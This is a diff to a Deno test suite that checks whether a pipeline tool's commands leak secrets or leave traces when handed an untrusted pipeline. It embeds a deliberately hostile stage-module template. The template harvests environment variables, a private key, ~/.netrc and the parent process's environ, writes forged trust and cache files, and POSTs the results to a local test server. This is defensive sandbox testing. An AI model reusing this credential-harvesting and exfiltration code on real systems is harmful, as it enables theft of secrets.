@@ -1,44 +1,70 @@
 import { assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
+import { type Call, everyCommand, writeWorkFolder } from "./every_command.ts";
 import { inFolder, type Ran, tvp } from "./workplace.ts";
 
-/**
- * A pipeline file of a stranger's: its stage takes what it can get as soon as it is loaded, when its
- * schema is asked, and when its outputs are. Whatever it gets it writes and sends.
- */
-function hostile(folder: string, port: number): string {
-  return `import { z } from "zod";
-import { defineStage } from "${
-    new URL("../../lib/pipeline/contract/stage.ts", import.meta.url).href
-  }";
-function take(when) {
-  const got = [when];
-  const attempt = (f) => { try { got.push(String(f())); } catch { /* not given */ } };
-  attempt(() => JSON.stringify(Deno.env.toObject()));
-  attempt(() => Deno.env.get("TVP_CACHE_PRIVATE_KEY"));
-  attempt(() => Deno.readTextFileSync("${folder}/home/.netrc"));
-  attempt(() => Deno.readTextFileSync(new URL("./link.ts", import.meta.url)));
-  attempt(() => new Deno.Command("touch", { args: ["${folder}/outside/ran"] }).outputSync());
-  attempt(() => Deno.dlopen("/no/library.so", {}));
-  attempt(() => Deno.writeTextFileSync("${folder}/outside/" + when, got.join()));
-  fetch("http://127.0.0.1:${port}/" + when, { method: "POST", body: got.join() }).catch(() => {});
-  console.log(got.join());
-  return got.join();
+const stageModule = new URL("../../lib/pipeline/contract/stage.ts", import.meta.url).href;
+
+/** Where a stranger's code lies, and what it may reach for. */
+interface Reach {
+  readonly folder: string;
+  readonly port: number;
+  /** What its stage type declares. */
+  readonly permissions: readonly string[];
 }
-const seen = take("load");
+
+/** Code that takes what it can get, writes it, sends it and returns it. */
+function taking({ folder, port }: Reach): string {
+  return `function take(when: string) {
+  const got = [when];
+  const attempt = (name: string, f: () => unknown) => {
+    try { got.push(name + "=" + f()); } catch { /* not given */ }
+  };
+  attempt("environment", () => JSON.stringify(Deno.env.toObject()));
+  attempt("key", () => Deno.env.get("TVP_CACHE_PRIVATE_KEY"));
+  attempt("home", () => Deno.readTextFileSync("${folder}/home/.netrc"));
+  attempt("link", () => Deno.readTextFileSync(new URL("./link.ts", import.meta.url)));
+  attempt("parent", () => Deno.readTextFileSync("/proc/" + Deno.ppid + "/environ"));
+  attempt("program", () => new Deno.Command("touch", { args: ["${folder}/outside/ran"] }).outputSync().code);
+  attempt("native", () => Deno.dlopen("libc.so.6", {}) && "loaded");
+  attempt("trust", () => Deno.writeTextFileSync("${folder}/home/.config/tvp/trusted.txt", "0".repeat(64)));
+  attempt("store", () => Deno.writeTextFileSync("${folder}/work/.tvp/cache/objects/forged", ""));
+  attempt("code", () => Deno.writeTextFileSync("${folder}/work/own/more.ts", ""));
+  attempt("written", () => Deno.writeTextFileSync("${folder}/outside/" + when, got.join()));
+  const sent = fetch("http://127.0.0.1:${port}/" + when, { method: "POST", body: got.join() })
+    .then((response) => response.body?.cancel()).catch(() => {});
+  console.log(got.join());
+  return { got: got.join(), sent };
+}
+`;
+}
+
+/** A stage type that takes as soon as it is loaded, when its schema is asked, its outputs are, and it runs. */
+function stageOf(name: string, reach: Reach): string {
+  return `import { z } from "zod";
+import { defineStage } from "${stageModule}";
+${taking(reach)}const seen = take("${name}-load").got;
 export default defineStage({
-  name: "taker", description: seen,
-  with: z.strictObject({ x: z.string().transform((x) => (take("check"), x)) }),
+  name: "${name}", description: seen, permissions: ${JSON.stringify(reach.permissions)},
+  with: z.strictObject({ x: z.string().transform((x) => (take("${name}-check"), x)) }),
   outputs: { text: "text" }, isolation: "inline",
-  declareOutputs: () => (take("outputs"), {}),
-  async run(_, context) { await Deno.writeTextFile(context.output("text"), take("run")); },
+  declareOutputs: () => (take("${name}-outputs"), {}),
+  async run(_, context) {
+    const { got, sent } = take("${name}-run");
+    await sent;
+    await Deno.writeTextFile(context.output("text"), got);
+  },
 });
 `;
 }
 
 const pipeline = `name: gift
 stageFolder: ./own
+datasetFolder: ./own
+lossFolder: ./own
+promptFolder: ./own
 stages:
-  a: { uses: taker, with: { x: y } }
+  a: { uses: a, with: { x: y } }
+  open: { uses: open, with: { x: y } }
   b: { uses: command, with: { run: [sh, -c, "env > {outputs.t}; touch OUT/command"], outputs: { t: text } } }
 `;
 
@@ -48,82 +74,113 @@ const secrets = {
   HF_TOKEN: "canary-hf-3",
 };
 
-/** Commands that look at a pipeline, or at what is left of it. */
-const looking: readonly (readonly string[])[] = [
-  ["plan", "p.yaml"],
-  ["run", "p.yaml", "--plan"],
-  ["run", "p.yaml", "--require-trust"],
-  ["graph", "p.yaml", "--tasks"],
-  ["status", "p.yaml"],
-  ["why", "p.yaml", "a"],
-  ["logs", "p.yaml", "a"],
-  ["show", "p.yaml", "a"],
-  ["pull", "p.yaml", "--remote", "REMOTE"],
-  ["push", "p.yaml", "--remote", "REMOTE"],
-  ["trust", "p.yaml", "--dry-run"],
-  ["schema"],
-  ["runs"],
-  ["gc"],
-  ["verify"],
-  ["completions", "--words", "--", "why", "p.yaml", ""],
-];
+/** Files below a folder, with their contents. */
+function contentsOf(folder: string): Record<string, string> {
+  const entries = [...Deno.readDirSync(folder)].flatMap(({ name, isDirectory }) => {
+    const path = `${folder}/${name}`;
+    return isDirectory
+      ? Object.entries(contentsOf(path)).map(([below, text]) => [`${name}/${below}`, text])
+      : [[name, Deno.readTextFileSync(path)]];
+  });
+  return Object.fromEntries(entries);
+}
 
-Deno.test("looking at a stranger's pipeline leaves no trace and shows no secret", () =>
+/** Folder in which Deno keeps packages, for a process with another home. */
+async function denoFolder(): Promise<string> {
+  const { stdout } = await new Deno.Command(Deno.execPath(), { args: ["info", "--json"] }).output();
+  return JSON.parse(new TextDecoder().decode(stdout)).denoDir;
+}
+
+Deno.test("every command leaves a stranger's pipeline without trace and secret, before and after a run", () =>
   inFolder(async (folder) => {
     const heard: string[] = [];
     await using server = Deno.serve(
       { port: 0, hostname: "127.0.0.1", onListen() {} },
-      (request) => {
-        heard.push(request.url);
+      async (request) => {
+        heard.push(`${new URL(request.url).pathname} ${await request.text()}`);
         return new Response("", { status: 404 });
       },
     );
-    for (const name of ["own", "home", "outside", "remote"]) Deno.mkdirSync(`${folder}/${name}`);
+    const work = `${folder}/work`;
+    const { port } = server.addr;
+    for (const name of ["work/own", "home/.config", "outside", "temporary"]) {
+      Deno.mkdirSync(`${folder}/${name}`, { recursive: true });
+    }
     Deno.writeTextFileSync(`${folder}/home/.netrc`, "canary-home-4");
-    Deno.symlinkSync(`${folder}/home/.netrc`, `${folder}/own/link.ts`);
-    Deno.writeTextFileSync(`${folder}/own/taker.ts`, hostile(folder, server.addr.port));
-    Deno.writeTextFileSync(`${folder}/p.yaml`, pipeline.replace("OUT", `${folder}/outside`));
-    const { privateKey, publicKey } = JSON.parse((await tvp(folder, "keys", "--json")).out);
-    Deno.writeTextFileSync(`${folder}/cache_keys.txt`, `${publicKey}\n`);
-    // The packages of this machine lie below its own home.
+    Deno.symlinkSync(`${folder}/home/.netrc`, `${work}/own/link.ts`);
+    const write = (name: string, permissions: readonly string[]) =>
+      Deno.writeTextFileSync(
+        `${work}/own/${name}.ts`,
+        stageOf(name, { folder, port, permissions }),
+      );
+    write("a", []);
+    write("open", ["read", "write", "net", "run"]);
+    Deno.writeTextFileSync(`${work}/p.yaml`, pipeline.replace("OUT", `${folder}/outside`));
+    await writeWorkFolder(work);
+    const { privateKey, publicKey } = JSON.parse((await tvp(work, "keys", "--json")).out);
+    Deno.writeTextFileSync(`${work}/cache_keys.txt`, `${publicKey}\n`);
     const env = {
       ...secrets,
       TVP_CACHE_PRIVATE_KEY: privateKey,
-      XDG_CONFIG_HOME: `${folder}/home`,
+      HOME: `${folder}/home`,
+      TMPDIR: `${folder}/temporary`,
+      XDG_CONFIG_HOME: "",
+      XDG_CACHE_HOME: "",
+      DENO_DIR: await denoFolder(),
     };
     const hidden = [...Object.values(secrets), privateKey];
-    const call = async (args: readonly string[], canaries = hidden): Promise<Ran> => {
-      const words = args.map((word) => word.replace("REMOTE", `file://${folder}/remote`));
-      const ran = await tvp(folder, ...words, { env });
+    let id = "none";
+    const call = async (
+      args: readonly string[],
+      canaries: readonly string[] = hidden,
+    ): Promise<Ran> => {
+      const words = args.map((word) => word.replace("FOLDER", work).replace("RUN", id));
+      const ran = await tvp(work, ...words, { env });
       for (const canary of canaries) {
         assertEquals((ran.out + ran.err).includes(canary), false, `${words.join(" ")}: ${canary}`);
       }
       return ran;
     };
-    for (const args of looking) {
-      const { code, err } = await call(args, [...hidden, "canary-"]);
-      assertEquals([0, 1, 2].includes(code), true, `${args.join(" ")}: ${err}`);
-      assertEquals(
-        [...Deno.readDirSync(`${folder}/outside`)].map(({ name }) => name),
-        [],
-        args.join(" "),
-      );
-    }
-    assertEquals(heard, []);
-    assertEquals([...Deno.readDirSync(`${folder}/home`)].map(({ name }) => name), [".netrc"]);
+    /** What others than the program itself could have changed. */
+    const traces = () => ({
+      heard: heard.length,
+      home: contentsOf(`${folder}/home`),
+      outside: contentsOf(`${folder}/outside`),
+      temporary: contentsOf(`${folder}/temporary`),
+      own: Object.keys(contentsOf(`${work}/own`)),
+    });
+    const lookWithEach = async (commands: readonly Call[], canaries: readonly string[]) => {
+      const before = traces();
+      for (const { args } of commands) {
+        const { code, err } = await call(args, canaries);
+        assertEquals([0, 1, 2].includes(code), true, `${args.join(" ")}: ${err}`);
+        assertEquals(traces(), before, args.join(" "));
+      }
+    };
+    const all = Object.values(everyCommand).flat();
+    await lookWithEach(all, [...hidden, "canary-"]);
+    assertEquals(traces().outside, {});
 
     const run = await call(["run", "p.yaml", "--trust"]);
-    assertEquals(run.code, 0, run.err);
-    assertEquals(run.err, "");
-    const got = Deno.readTextFileSync(`${folder}/outside/run`) +
-      Deno.readTextFileSync(`${folder}/.tvp/runs/gift/latest/b/t.txt`);
-    // It runs as the user does: files of theirs it reads, but no secret of the runner's.
-    assertStringIncludes(got, "canary-home-4");
+    assertEquals([run.code, run.err], [0, ""]);
+    const outputs = contentsOf(`${work}/.tvp/runs/gift/latest`);
     for (const secret of hidden) {
-      assertEquals(got.includes(secret), false);
+      assertEquals(Object.values(outputs).some((text) => text.includes(secret)), false);
     }
-    assertMatch(
-      (await call(["trust", "p.yaml"])).out,
-      /^trusted .*\ntrusted .*\nAll of it is trusted\n$/,
-    );
+    // What declares nothing gets its environment, and what lies beside it.
+    const namesIn = (text = "") => text.match(/(?<=,)[a-z]+(?==)/g);
+    assertEquals(namesIn(outputs["a/text.txt"]), ["environment", "key", "link"]);
+    assertEquals(namesIn(outputs["open/text.txt"]), [
+      ...["environment", "key", "home", "link", "program", "trust", "store", "code", "written"],
+    ]);
+    assertStringIncludes(outputs["a/text.txt"]!, "key=undefined");
+    assertEquals(heard.filter((line) => line.startsWith("/a-")), []);
+    assertEquals(heard.filter((line) => line.startsWith("/open-run ")).length, 1);
+
+    id = JSON.parse((await tvp(work, "runs", "--json", { env })).out).id;
+    const trusting = await call(["trust", "p.yaml"]);
+    assertMatch(trusting.out, /stage type a: .*own\/a\.ts\n/);
+    assertMatch(trusting.out, /stage type open \(read, write, net, run\): .*own\/open\.ts\n/);
+    // Now that it is trusted it is loaded with more; what computes again is left out.
+    await lookWithEach(all.filter(({ args }) => args[0] !== "verify-report"), hidden);
   }));
